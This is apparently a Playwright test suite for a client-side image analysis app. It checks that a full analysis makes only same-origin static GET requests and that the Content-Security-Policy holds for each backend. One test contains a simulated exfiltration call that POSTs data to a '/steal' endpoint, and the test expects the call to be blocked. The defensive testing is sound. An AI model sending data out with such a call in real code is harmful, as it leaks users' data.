import { expect, test, type Request } from '@playwright/test';
import { analyze, modalityImage, openApp, upload, uploadAll } from './helpers';

test.use({ serviceWorkers: 'allow' });

// Report the service worker's own network requests too (its precache downloads).
process.env.PW_EXPERIMENTAL_SERVICE_WORKER_NETWORK_EVENTS = '1';

const STATIC_PATH =
  /^\/(|index\.html|sw\.js|manifest\.webmanifest|favicon\.svg|icons\/[\w-]+\.png|assets\/[\w.-]+\.(js|css|wasm)|models\/[\w./-]+\.(json|bin|png|md)|__fixtures__\/models\/[\w./-]+\.(json|bin|png))$/;

interface Seen {
  url: string;
  method: string;
  body: number;
  from: string;
}

function record(list: Seen[]) {
  return (r: Request) =>
    list.push({
      url: r.url(),
      method: r.method(),
      body: r.postDataBuffer()?.length ?? 0,
      from: r.serviceWorker() ? 'service worker' : 'page or analysis worker',
    });
}

function audit(seen: Seen[], origin: string): string[] {
  const problems: string[] = [];
  for (const s of seen) {
    if (s.url.startsWith('blob:' + origin) || s.url.startsWith('data:')) continue;
    const u = new URL(s.url);
    if (u.origin !== origin) problems.push(`other origin: ${s.url}`);
    if (s.method !== 'GET') problems.push(`${s.method} ${s.url}`);
    if (s.body > 0) problems.push(`body of ${s.body} bytes: ${s.url}`);
    if (!STATIC_PATH.test(u.pathname)) problems.push(`not a static asset: ${u.pathname}`);
  }
  return problems;
}

test('network audit: a full analysis, saving and the report make only same-origin static GETs, none with a body', async ({
  page,
  context,
  baseURL,
}) => {
  const origin = new URL(baseURL!).origin;
  const seen: Seen[] = [];
  context.on('request', record(seen));
  await openApp(page);
  await page.evaluate(() => navigator.serviceWorker.ready);
  await page.reload(); // now every request of the page and the analysis worker passes the service worker
  await expect(page.getByTestId('backend')).not.toHaveText('—', { timeout: 120_000 });
  await uploadAll(page);
  await analyze(page);
  await page.getByTestId('nav-history').click();
  await page.getByTestId('history-label').fill('audit case');
  await page.getByTestId('history-save').click();
  await expect(page.getByTestId('history-row')).toHaveCount(1);
  await page.getByTestId('open-report').click();
  await expect(page.getByTestId('report-label')).toHaveText('audit case');

  expect(seen.length).toBeGreaterThan(10);
  expect(seen.some((s) => s.url.endsWith('.wasm'))).toBe(true);
  expect(seen.some((s) => /__fixtures__\/models\/.+\.bin$/.test(s.url))).toBe(true);
  expect(audit(seen, origin)).toEqual([]);

  // The app's own record says the same, and it saw the analysis worker's model downloads.
  await page.getByTestId('nav-privacy').click();
  const summary = page.getByTestId('privacy-summary');
  await expect(summary).toHaveAttribute('data-foreign', '0');
  await expect(summary).toHaveAttribute('data-body', '0');
  expect(Number(await summary.getAttribute('data-total'))).toBeGreaterThan(5);
  await expect(
    page
      .getByTestId('privacy-request')
      .filter({ hasText: /__fixtures__\/models\/.+\.bin/ })
      .first(),
  ).toBeVisible();
  await expect(page.getByTestId('privacy-csp')).toContainText("connect-src 'self' blob: data:");
  await expect(page.getByTestId('privacy-first-visit')).toHaveCount(0);
  await expect(page.getByTestId('privacy-storage')).toContainText('MB');
  console.log(`network audit: ${seen.length} requests, from ${[...new Set(seen.map((s) => s.from))].join(', ')}`);
});

test('the Content-Security-Policy forbids other origins (meta policy matches the header)', async ({ page, baseURL }) => {
  const res = await page.goto(baseURL!);
  const header = res!.headers()['content-security-policy']!;
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(header.replace(/; frame-ancestors 'none'/, '')).toBe(meta);
  expect(meta).not.toMatch(/(^|\s)'unsafe-eval'/);
  expect(meta).not.toMatch(/https?:/);
  const blocked = await page.evaluate(async () => {
    try {
      await fetch('http://localhost:9/steal', { method: 'POST', body: 'x' });
      return 'sent';
    } catch {
      return 'blocked';
    }
  });
  expect(blocked).toBe('blocked');
});

// No backend needs 'unsafe-eval': each one analyses under the policy without a single CSP violation
// (WASM is exercised by the audit above; its threaded build needs 'wasm-unsafe-eval' and blob: workers).
for (const backend of ['webgl', 'webgpu', 'wasm', 'cpu'] as const) {
  test(`the ${backend} backend runs under the Content-Security-Policy without violations`, async ({ page }) => {
    const violations: string[] = [];
    page.on('console', (m) => {
      if (/Content Security Policy|Refused to/i.test(m.text())) violations.push(m.text());
    });
    await page.addInitScript(() =>
      document.addEventListener('securitypolicyviolation', (e) =>
        console.error(`Refused to: ${e.violatedDirective} ${e.blockedURI}`),
      ),
    );
    await openApp(page, { backend });
    const used = await page.getByTestId('backend').textContent();
    test.skip(used !== backend, `${backend} is not available in this browser (fell back to ${used})`);
    await upload(page, 'bmode', 'b.png', modalityImage('bmode'));
    await analyze(page);
    await expect(page.getByTestId('error')).toHaveCount(0);
    expect(violations).toEqual([]);
  });
}
